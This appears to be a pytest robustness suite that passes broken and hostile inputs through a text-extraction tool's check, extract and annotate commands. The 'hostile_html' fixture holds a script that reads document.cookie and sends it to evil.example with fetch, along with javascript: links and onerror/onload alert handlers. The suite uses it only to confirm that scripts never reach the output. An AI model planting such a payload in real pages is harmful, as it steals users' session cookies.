"""Hostile and broken inputs through `check`, `extract` and `annotate`, as a user runs them.

Every case runs the real command line (typer's CliRunner inside a watched subprocess, see
robust_runner.py) and must end with a documented exit code and either output or one ``error:`` line
that names the file (and the line of a JSONL file); never a traceback, never an internal error (exit 70),
never longer than the runner's per-case limit (a hang is a failure, not a slow test), never more memory
than the runner's address-space limit. Where the input holds readable documents besides the bad ones,
those are processed and the bad ones are ``warning:`` lines.
"""

from __future__ import annotations

import json
import os
import random
import stat
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest

from robust_helpers import MODEL, assert_clean, error_line, readable_anyway, run_cli, warnings_of

pytestmark = pytest.mark.slow  # every bad input through every command: minutes

ARTICLE = ("Acme Corp valued at $7.5 billion\n\n"
           "Acme Corp was valued at $7.5 billion after its latest funding round, the company said on Monday. "
           "Its revenue rose 12% to $1.2 billion in 2019, according to people familiar with the matter.\n\n"
           "Beta Inc, a rival, raised $300 million in its initial public offering in March.\n")
BODY = ARTICLE.split("\n\n", 1)[1]  # without its headline, to go under another
COMMANDS = ("check", "extract", "annotate")
N_LINES = 10_000
BAD_LINES = (17, 5_000, 9_999)


@dataclass
class Case:
    build: Callable[[Path], str]  # writes the input under a fresh directory; returns the path argument
    expect: str  # "ok" (exit 0) or "error" (exit 3)
    needles: tuple[str, ...] = ()  # must appear in the error line (error) or a warning (ok)
    documents: int | None = None  # documents that must come out (ok)
    title: str | None = None  # a document title that must come out (ok): the text was decoded right
    commands: tuple[str, ...] = COMMANDS
    options: tuple[str, ...] = ()
    stdin: str | None = None
    deny_as_root: tuple[str, ...] = ()  # file names the runner makes unreadable when chmod cannot (root)
    weight: int = 1  # rough cost of one run, to share the runs out evenly between the runner processes


CASES: dict[str, Case] = {}


def case(name: str, expect: str, **kw):
    def register(build):
        CASES[name] = Case(build, expect, **kw)
        return build
    return register


# -- encodings and binary data ---------------------------------------------------------------------------------

@case("png", "error", needles=("image.txt", "PNG"))
def _png(d):
    (d / "image.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(random.Random(1).randbytes(4000)))
    return "image.txt"


@case("png_suffix", "error", needles=("photo.png", "unsupported file type"))
def _png_suffix(d):
    (d / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(100))
    return "photo.png"


@case("zip", "error", needles=("archive.txt", "zip"))
def _zip(d):
    with zipfile.ZipFile(d / "archive.txt", "w") as z:
        z.writestr("article.txt", ARTICLE)
    return "archive.txt"


@case("invalid_utf8", "ok", documents=1, title="Acme Corp valued at $7.5 billion")
def _invalid_utf8(d):
    (d / "bad-bytes.txt").write_bytes(ARTICLE.encode() + b"Stray bytes: \xff\xfe\xc3\x28 and \xa0\xa1.\n")
    return "bad-bytes.txt"


@case("utf16_bom", "ok", documents=1, title="Zürich insurer valued at €5 billion")
def _utf16(d):
    (d / "utf16.txt").write_bytes(("Zürich insurer valued at €5 billion\n\n" + BODY).encode("utf-16"))
    return "utf16.txt"


@case("latin1", "ok", documents=1, title="Société Générale sells its Zürich unit")
def _latin1(d):
    text = ("Société Générale sells its Zürich unit\n\nSociété Générale said on Tuesday it would sell its Zürich "
            "private bank for €1.2 billion, a price analysts called élevé but fair. " + BODY)
    (d / "latin1.txt").write_bytes(text.replace("€", "EUR ").encode("latin-1"))
    return "latin1.txt"


@case("mojibake", "ok", documents=1, title="Zürich's café chain raises €5 million")  # ftfy also uncurls quotes
def _mojibake(d):
    text = "Zürich’s café chain raises €5 million\n\n" + BODY
    (d / "mojibake.txt").write_text(text.encode("utf-8").decode("cp1252", errors="replace"), encoding="utf-8")
    return "mojibake.txt"


@case("empty", "error", needles=("empty.txt", "empty document"))
def _empty(d):
    (d / "empty.txt").write_bytes(b"")
    return "empty.txt"


@case("whitespace", "error", needles=("blank.txt", "empty document"))
def _whitespace(d):
    (d / "blank.txt").write_text(" \n\t\n\r\n   \u00a0\n" * 200)
    return "blank.txt"


@case("stdin_binary", "error", needles=("-", "PNG"), commands=("check", "extract"))
def _stdin_binary(d):
    return "-"


CASES["stdin_binary"].stdin = (b"\x89PNG\r\n\x1a\n" + bytes(64)).decode("latin-1")  # bytes, see robust_runner


# -- size ------------------------------------------------------------------------------------------------------

@case("big_single_line", "ok", documents=1, needles=("huge.txt", "only the first"), weight=15)
def _big_line(d):
    rng = random.Random(50)
    words = ("the company said revenue rose while analysts expected its shares to fall after the listing in "
             "Hong Kong on Monday and regulators in Brussels approved the deal").split()
    chunk = " ".join(rng.choice(words) if rng.random() > 0.01 else f"${rng.randint(1, 999)}m" for _ in range(20_000))
    with open(d / "huge.txt", "w", encoding="ascii") as fh:
        written = 0
        while written < 50_000_000:
            piece = chunk[: 50_000_000 - written]
            fh.write(piece)
            written += len(piece)
    return "huge.txt"


def _jsonl_10k(d: Path) -> str:
    rng = random.Random(10)
    with open(d / "wire.jsonl", "w", encoding="utf-8") as fh:
        for n in range(1, N_LINES + 1):
            if n in BAD_LINES:
                fh.write('{"id": "broken-%d", "text": "cut off mid-reco\n' % n)
            else:
                fh.write(json.dumps({"id": f"w{n}", "text": f"Firm{n} Ltd said sales rose {rng.randint(1, 99)}%."})
                         + "\n")  # short: 10,000 of them stay cheap
    return "wire.jsonl"


CASES["jsonl_10k_skip"] = Case(_jsonl_10k, "ok", documents=N_LINES - len(BAD_LINES),
                               needles=tuple(f"wire.jsonl:{n}" for n in BAD_LINES), options=("--on-error", "skip"),
                               weight=60)
CASES["jsonl_10k_fail"] = Case(_jsonl_10k, "error", needles=(f"wire.jsonl:{BAD_LINES[0]}", "malformed JSON"),
                               options=("--on-error", "fail"))


@case("many_tiny_files", "ok", documents=10_000, weight=60)
def _many_files(d):
    root = d / "desk"
    for k in range(10):
        sub = root / f"day{k}"
        sub.mkdir(parents=True)
        for i in range(1_000):
            (sub / f"n{k}{i:03d}.txt").write_text(f"Unit{k}x{i} Ltd said sales rose {i % 97}%.\n")
    return "desk"


# -- JSON ------------------------------------------------------------------------------------------------------

@case("json_wrong_object", "error", needles=("feed.json", "'text'"))
def _json_object(d):
    (d / "feed.json").write_text(json.dumps({"articles": [{"body": ARTICLE}], "count": 1}))
    return "feed.json"


@case("json_wrong_items", "error", needles=("items.json",))
def _json_items(d):
    (d / "items.json").write_text(json.dumps([1, "text", {"text": 5}, {"id": [], "text": "x"}, None]))
    return "items.json"


@case("json_deeply_nested", "error", needles=("deep.json", "nested too deeply"))
def _json_deep(d):
    (d / "deep.json").write_text("[" * 200_000 + "]" * 200_000)
    return "deep.json"


@case("json_scalar", "error", needles=("scalar.json",))
def _json_scalar(d):
    (d / "scalar.json").write_text("42")
    return "scalar.json"


@case("jsonl_odd_lines", "ok", documents=3, needles=("odd.jsonl:2", "odd.jsonl:4", "odd.jsonl:5"))
def _jsonl_odd(d):
    lines = [
        json.dumps({"id": "ok-1", "text": ARTICLE}),
        '{"id": ' + "7" * 5_000 + ', "text": "an id of 5,000 digits"}',  # past Python's int-from-str limit
        json.dumps({"id": "sep", "text": "Acme said\u2028revenue rose 5%\u2029in 2019\x85and more."},
                   ensure_ascii=False),
        "[" * 100_000 + "]" * 100_000,
        '{"id": NaN, "text": "a NaN id"}',
        json.dumps({"id": "ok-6", "text": ARTICLE}),
    ]
    (d / "odd.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return "odd.jsonl"


@case("json_lone_surrogates", "ok", documents=2)
def _surrogates(d):
    # JSON escapes can spell lone UTF-16 surrogates, which no output encoding accepts
    lines = ['{"id": "bad\\ud800id", "text": "Acme Corp \\udfff said revenue rose 5% in 2019.", "source": "\\udc80",'
             ' "title": "T\\ud83d", "story": "s\\ude00"}',
             '{"id": "pair", "text": "Acme Corp \\ud83d\\ude00 rose 7% in 2019."}']
    (d / "surrogates.jsonl").write_text("\n".join(lines) + "\n")
    return "surrogates.jsonl"


# -- file system -----------------------------------------------------------------------------------------------

@case("undecodable_file_names", "ok", documents=2)
def _byte_names(d):
    root = os.path.join(os.fsencode(str(d)), b"story-\xe9t\xe9")  # Latin-1 bytes: not UTF-8
    os.mkdir(root)
    for name in (b"caf\xe9.txt", b"\xff\xfe.md"):
        with open(os.path.join(root, name), "w") as fh:
            fh.write(ARTICLE)
    return os.fsdecode(root)


@case("symlink_loop", "error", needles=("loop.txt", "symbolic link loop"))
def _loop(d):
    os.symlink("loop.txt", d / "loop.txt")
    return "loop.txt"


@case("dir_with_loops", "ok", documents=1, needles=("self.txt", "symbolic link loop"))
def _dir_loops(d):
    root = d / "story"
    root.mkdir()
    (root / "good.txt").write_text(ARTICLE)
    os.symlink(".", root / "again")  # a directory loop: not followed
    os.symlink("self.txt", root / "self.txt")
    return "story"


@case("dangling_link", "error", needles=("gone.txt", "broken symbolic link"))
def _dangling(d):
    os.symlink("nowhere.txt", d / "gone.txt")
    return "gone.txt"


@case("unreadable", "error", needles=("secret.txt", "permission denied"), deny_as_root=("secret.txt",))
def _unreadable(d):
    (d / "secret.txt").write_text(ARTICLE)
    (d / "secret.txt").chmod(0)
    return "secret.txt"


@case("dir_with_unreadable", "ok", documents=1, needles=("secret.txt", "permission denied"),
      deny_as_root=("secret.txt",))
def _dir_unreadable(d):
    root = d / "story"
    root.mkdir()
    (root / "good.txt").write_text(ARTICLE)
    (root / "secret.txt").write_text(ARTICLE)
    (root / "secret.txt").chmod(0)
    return "story"


@case("missing", "error", needles=("no-such-article.txt", "no such file"))
def _missing(d):
    return "no-such-article.txt"


@case("name_too_long", "error", needles=("file name too long",))
def _too_long(d):
    return "a" * 300 + ".txt"


@case("fifo", "error", needles=("pipe.txt", "named pipe"))
def _fifo(d):
    os.mkfifo(d / "pipe.txt")  # reading it would block for ever
    return "pipe.txt"


@case("dir_with_fifo", "ok", documents=1, needles=("pipe.txt", "named pipe"))
def _dir_fifo(d):
    root = d / "story"
    root.mkdir()
    (root / "good.txt").write_text(ARTICLE)
    os.mkfifo(root / "pipe.txt")
    return "story"


# -- hostile and pathological content --------------------------------------------------------------------------

SCRIPT_MARK = "stolenCookies"


@case("hostile_html", "ok", documents=1)
def _hostile(d):
    (d / "page.html").write_text(f"""<!doctype html><html><head><title>Acme valued at $7.5bn</title>
<script>var {SCRIPT_MARK} = document.cookie; fetch("https://evil.example/?c=" + {SCRIPT_MARK});</script>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head>
<body onload="alert('{SCRIPT_MARK}')"><iframe src="https://evil.example/frame"></iframe>
<article><h1>Acme valued at $7.5bn</h1>
<p onclick="alert(1)">Acme Corp was valued at $7.5 billion after its latest funding round, the company said on
Monday. <a href="javascript:alert('{SCRIPT_MARK}')">Read more</a></p>
<p onmouseover="alert(2)">Its revenue rose 12% to $1.2 billion in 2019, according to people familiar with it.</p>
<img src=x onerror="alert('{SCRIPT_MARK}')"><svg onload="alert(3)"></svg>
<script>document.write('<p>{SCRIPT_MARK} was valued at $99 billion</p>')</script></article></body></html>""")
    return "page.html"


@case("pathological_numbers", "ok", documents=1, weight=5)
def _numbers(d):
    text = ("Acme Corp said on Monday it was valued at $" + "9" * 10_000 + " billion, or 1e999999 dollars, "
            "with revenue of " + "(" * 5_000 + "$5bn" + ")" * 5_000 + " and margins of " + "9" * 5_000 + "%. "
            "Beta raised $" + "1," * 3_000 + "000 and " + "1." * 3_000 + "5 million euros, or -0e-0 dollars.\n")
    (d / "numbers.txt").write_text("Acme's numbers\n\n" + text)
    return "numbers.txt"


# -- running them ----------------------------------------------------------------------------------------------

def _args(command: str, path: str, case_: Case, outdir: Path) -> list[str]:
    if command == "check":
        return ["check", path, "--format", "json", "--model", MODEL, *case_.options]
    if command == "extract":
        return ["extract", path, "--format", "jsonl", "--model", MODEL, *case_.options]
    return ["annotate", path, "-o", str(outdir), "--workers", "1", "-q", "--model", MODEL, *case_.options]


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    """Every case through every command, in one watched runner; {(case, command): result}."""
    base = tmp_path_factory.mktemp("bad-inputs")
    jobs, meta = [], {}
    as_root = readable_anyway(base) is not None
    for name, c in CASES.items():
        d = base / name
        d.mkdir()
        path = c.build(d)
        for command in c.commands:
            outdir = d / f"out-{command}"
            jobs.append({"id": f"{name}/{command}", "args": _args(command, path, c, outdir), "cwd": str(d),
                         **({"stdin_latin1": c.stdin} if c.stdin is not None else {}),
                         "weight": c.weight,
                         **({"deny_open": list(c.deny_as_root)} if as_root and c.deny_as_root else {})})
            meta[f"{name}/{command}"] = outdir
    out = run_cli(jobs, base)
    for d in base.iterdir():  # let tmp_path clean up what was made unreadable
        for p in d.rglob("*"):
            if not p.is_symlink() and p.exists() and stat.S_IMODE(p.lstat().st_mode) == 0:
                p.chmod(0o600)
    return out, meta


def _documents_out(command: str, result: dict, outdir: Path) -> tuple[int, list[str]]:
    """(number of documents, their titles where the format has them) from a successful run."""
    if command == "check":
        report = json.loads(result["stdout"])
        return len(report["documents"]), [d["title"] for d in report["documents"]]
    if command == "extract":
        return len([ln for ln in result["stdout"].splitlines() if json.loads(ln)]), []
    import pyarrow.parquet as pq

    manifest = json.loads((outdir / "manifest.json").read_text())
    assert manifest["status"] == "complete"
    table = pq.read_table(outdir / "documents")
    return table.num_rows, table.column("title").to_pylist()


@pytest.mark.parametrize(("name", "command"), [(n, cmd) for n, c in CASES.items() for cmd in c.commands])
def test_bad_input(results, name, command):
    out, meta = results
    c = CASES[name]
    result = out[f"{name}/{command}"]
    assert_clean(result)
    if c.expect == "error":
        assert result["exit_code"] == 3, result["stderr"]
        line = error_line(result)
        # the reason may sit in a warning just above a summary error ("no readable documents in items.json")
        said = "\n".join([line] + warnings_of(result))
        assert c.needles[0] in line, line
        for needle in c.needles[1:]:
            assert needle in said, said
        return
    assert result["exit_code"] == 0, result["stderr"][-3000:]
    warned = "\n".join(warnings_of(result))
    for needle in c.needles:
        assert needle in warned, warned
    n, titles = _documents_out(command, result, meta[f"{name}/{command}"])
    if c.documents is not None:
        assert n == c.documents
    if c.title is not None and titles:
        assert c.title in titles, titles


def test_scripts_never_reach_the_output(results):
    """What a page's scripts, handlers and javascript: links say is not article text."""
    out, _ = results
    for command in COMMANDS:
        result = out[f"hostile_html/{command}"]
        assert SCRIPT_MARK not in result["stdout"] and "alert(" not in result["stdout"]
        assert "evil.example" not in result["stdout"]


def test_bounded_memory(results):
    """The 50 MB line, 10,000 documents and 10,000 files together stay far below the runner's limit."""
    out, _ = results
    peak = max(r.get("maxrss_mb", 0) for r in out.values())
    assert peak < 6_000, f"peak resident memory {peak} MB"
